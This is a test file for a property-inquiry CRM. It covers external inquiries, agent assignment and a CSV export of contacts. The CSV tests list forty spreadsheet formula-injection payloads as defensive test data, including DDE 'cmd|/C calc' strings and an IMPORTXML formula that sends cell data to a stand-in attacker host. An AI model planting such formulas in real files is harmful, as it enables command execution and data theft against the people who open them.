// Tests of people who asked elsewhere, and of the CSV file of people.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { makeBrokerage, makePerson } from '../../../testing/factories/brokerages.ts';
import { callerOf, expectError } from '../../../testing/factories/caller.ts';
import { inquirySteps } from '../../../testing/factories/inquiries.ts';
import { advertise } from '../../../testing/factories/listings.ts';
import { makeMember } from '../../../testing/factories/members.ts';
import { type TestServer, testServer } from '../../../testing/server.ts';
import { rows } from '../../db/orm.ts';

let server: TestServer;
beforeAll(async () => {
  server = await testServer({
    LIMIT_REGISTER: '0',
    LIMIT_WRITE: '0',
    LIMIT_READ: '0',
    LIMIT_INQUIRY: '0',
    LIMIT_INQUIRY_ADDRESS: '0',
    LIMIT_EXPORT: '0',
  });
});
afterAll(() => server.close());
const { sendInquiry, emailsOf, recipientsOf } = inquirySteps(() => server);

describe('POST /api/inquiries/external', () => {
  test('adds a person who asked elsewhere, or a line to one who is known, and sends nothing to them', async () => {
    const owner = await makeMember(server);
    const home = await advertise(owner);
    await sendInquiry(home.id, { email: 'known@elsewhere.example', phone: '050 765 4321' });
    const emails = await emailsOf(async () => {
      const walkIn = {
        name: 'Walk In',
        phone: '+971 50 111 2222',
        source: 'walk-in',
        message: 'Looks for two bedrooms.',
        propertyId: home.id,
      };
      const { body } = await owner.device.post('/api/inquiries/external').send(walkIn).expect(201);
      expect(await callerOf(owner.device).person.get({ id: body.id })).toMatchObject({
        name: 'Walk In',
        stage: 'new',
        entries: [{ kind: 'external', text: `walk-in, DLV-${home.id}\nLooks for two bedrooms.` }],
      });
      await owner.device.post('/api/inquiries/external').send({ name: 'Known', phone: '+971507654321', source: 'portal' }).expect(201);
    });
    expect(emails).toEqual([]);
    const { items } = await callerOf(owner.device).person.list({});
    expect(items.map(({ name, inquiries, preview }) => [name, inquiries, preview.split('\n')[0]])).toEqual([
      ['Known', 1, expect.stringMatching(/available/)],
      ['Walk In', 0, `walk-in, DLV-${home.id}`],
    ]);
  });

  test.each([
    [{ name: 'Nadia Karim', source: 'walk-in' }, 'An email address or a phone number is needed'],
    [{ name: 'Nadia Karim', source: 'walk-in', phone: '0000000000000000' }, 'Write the number with its country code'],
    [{ name: 'Nadia Karim', phone: '+971 50 111 2222' }, 'Say where they asked'],
  ])('refuses %o', async (input, error) => {
    const { device } = await makeMember(server);
    const { text } = await device.post('/api/inquiries/external').send(input).expect(400);
    expect(text).toContain(error);
  });

  test('gives people in turns in a brokerage; an agent keeps whom they add, and no one adds to the home of another', async () => {
    const { owner, brokerage } = await makeBrokerage(server);
    const agents = [await makePerson(server, brokerage.id, 'agent'), await makePerson(server, brokerage.id, 'agent')] as const;
    await callerOf(owner.device).team.setTakesInquiries({ userId: owner.id, takesInquiries: false });
    await callerOf(owner.device).team.setRule({ rule: 'turns' });
    for (const email of ['one@elsewhere.example', 'two@elsewhere.example', 'ONE@elsewhere.example'])
      await callerOf(owner.device).person.addExternal({ name: 'Of the office', email, source: 'portal' });
    const { items } = await callerOf(owner.device).person.list({});
    expect(new Set(items.map(({ assigned }) => assigned!.id))).toEqual(new Set(agents.map(({ id }) => id)));
    expect(items).toHaveLength(2);
    await callerOf(agents[1].device).person.addExternal({ name: 'Own', email: 'own@elsewhere.example', source: 'friend' });
    expect((await callerOf(agents[1].device).person.list({})).items[0]).toMatchObject({ name: 'Own', assigned: { id: agents[1].id } });
    const foreign = await advertise(await makeMember(server));
    await expectError(
      callerOf(owner.device).person.addExternal({ name: 'X Y', email: 'x@elsewhere.example', source: 'x', propertyId: foreign.id }),
      'NOT_FOUND',
    );
  });
});

describe('the CSV file (O90)', () => {
  /** Forty texts that a spreadsheet would run. */
  const FORMULAS = ['=', '+', '-', '@', '\t=', '\r=', ' =', '\u00a0='].flatMap((start) =>
    ['1+1', 'cmd|/C calc!A0', 'HYPERLINK("http://evil.example","x")', 'IMPORTXML(CONCAT("http://evil.example?",A1),"//a")', '1,"",2'].map(
      (rest) => start + rest,
    ),
  );

  test('holds forty formulas as texts, in names and notes, with every other cell in place', async () => {
    const { device, id } = await makeMember(server);
    await rows(server.database.orm.em, {
      text: `insert into inquiry_persons (user_id, key, name, last_at) select $1, n || '@csv.example', f, now() - n * interval '1 minute'
        from unnest($2::text[]) with ordinality as formulas(f, n)`,
      values: [id, FORMULAS],
    });
    const [{ id: first } = { id: 0 }] = (await callerOf(device).person.list({})).items;
    await callerOf(device).person.note({ id: first, text: "=2+5+cmd|' /C calc'!A0" });
    const { names, lines } = await callerOf(device).person.export({});
    const table = parse([names, ...lines].join('\r\n'), { columns: true }) as Record<string, string>[];
    expect(FORMULAS).toHaveLength(40);
    expect(table).toHaveLength(40);
    expect(table.map(({ name }) => name)).toEqual(FORMULAS.map((formula) => `'${formula}`));
    expect(table[0]).toMatchObject({ notes: "'=2+5+cmd|' /C calc'!A0", stage: 'new', inquiries: '0' });
    for (const cell of table.flatMap((row) => Object.values(row))) expect(cell).not.toMatch(/^\s*[=+\-@]/);
  });

  test('holds the newest notes of a person, and no more of them than fits into memory for 50,000 people', async () => {
    const { device } = await makeMember(server);
    const { id } = await callerOf(device).person.addExternal({ name: 'Often noted', email: 'often@csv.example', source: 'portal' });
    for (let i = 1; i <= 4; i++) await callerOf(device).person.note({ id, text: `Note ${i} ${'x'.repeat(900)}` });
    const { names, lines } = await callerOf(device).person.export({});
    const [row] = parse([names, ...lines].join('\r\n'), { columns: true }) as Record<string, string>[];
    expect(row!.notes).toHaveLength(2000);
    expect(row!.notes).toMatch(/^Note 4 x+ \| Note 3 x+ \| Note 2 x+$/);
  });

  test('is for owners and managers of a brokerage, filtered by stage, and owners hear of it once a day', async () => {
    const { owner, brokerage } = await makeBrokerage(server);
    const [manager, agent] = [await makePerson(server, brokerage.id, 'manager'), await makePerson(server, brokerage.id, 'agent')];
    await callerOf(agent.device).person.addExternal({ name: 'First', email: 'first@csv.example', source: 'portal' });
    const second = await callerOf(owner.device).person.addExternal({ name: 'Second', email: 'second@csv.example', source: 'portal' });
    await callerOf(owner.device).person.setStage({ id: second.id, stage: 'won' });
    await expectError(callerOf(agent.device).person.export({}), 'FORBIDDEN');
    const emails = await emailsOf(async () => {
      expect((await callerOf(manager.device).person.export({})).lines).toHaveLength(2);
      expect((await callerOf(manager.device).person.export({ stage: 'won' })).lines).toEqual([
        expect.stringMatching(/^Second,second@csv\.example,,won,/),
      ]);
    });
    expect(recipientsOf(emails)).toEqual([owner.email]);
  });
});
